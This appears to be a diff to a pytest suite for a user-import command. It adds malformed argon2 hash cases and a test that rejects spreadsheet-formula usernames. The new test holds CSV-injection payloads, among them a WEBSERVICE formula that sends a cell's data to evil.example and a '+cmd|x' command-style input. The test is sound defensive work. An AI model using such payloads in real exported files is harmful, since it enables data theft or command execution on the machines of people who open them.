@@ -220,6 +220,20 @@ def test_one_line_that_is_wrong_is_named_and_nothing_is_written(
             '{"username": "ada", "password_hash": "$argon2id$v=19$m=8,t=9999,p=1$c2FsdHNhbHQ$aGFzaGhhc2g"}',
             "too much memory or time",
         ),
+        (
+            '{"username": "ada", "password_hash": "$argon2id$v=19$m=262144,t=10,p=16$c2FsdHNhbHQ$aGFzaGhhc2g"}',
+            "too much memory or time",
+        ),
+        *(
+            (f'{{"username": "ada", "password_hash": "$argon2id$v=19${cost}$c2FsdHNhbHQ${digest}"}}', "an argon2 hash")
+            for cost, digest in (
+                ("m=8,t=1,p=1", "aGFzaGh\u00e9hc2g"),
+                ("m=\uff18,t=1,p=1", "aGFzaGhhc2g"),
+                ("m=-8,t=1,p=1", "aGFzaGhhc2g"),
+                ("m=8,t=0,p=0", "aGFzaGhhc2g"),
+                ("m=8,t=1,p=1", "aGFzaGhhc2g\\n"),
+            )
+        ),
     ],
 )
 def test_a_line_of_json_that_is_wrong_is_named(node: Provider, tmp_path: Path, fields: str, reason: str) -> None:
@@ -308,6 +322,19 @@ def test_new_accounts_without_a_password_get_links_in_a_file_of_ones_own(node: P
         assert f"<strong>{row['username']}</strong>" in Resident(node.application).get(path).text
     again = run(node, "users", "import", write(tmp_path, content), "--links", str(links), exit_code=1)
     assert "cannot be made" in again.output
+
+
+@pytest.mark.parametrize("name", ['=WEBSERVICE("https://evil.example/?"&B3)', "+cmd|x", "-1+1", "@SUM(1)"])
+def test_a_name_that_a_spreadsheet_would_run_gets_no_line_in_the_file_of_links(
+    node: Provider, tmp_path: Path, name: str
+) -> None:
+    quoted = name.replace('"', '""')
+    file, links = write(tmp_path, f'username\nada\n"{quoted}"\n'), tmp_path / "links.csv"
+    result = run(node, "users", "import", file, "--links", str(links), exit_code=1)
+    assert "line 3: " in result.output
+    assert "formula" in result.output
+    assert not links.exists()
+    assert count(node) == 0
 
 
 def test_the_demo_imports_accounts_and_has_no_links(application: Flask, tmp_path: Path) -> None:
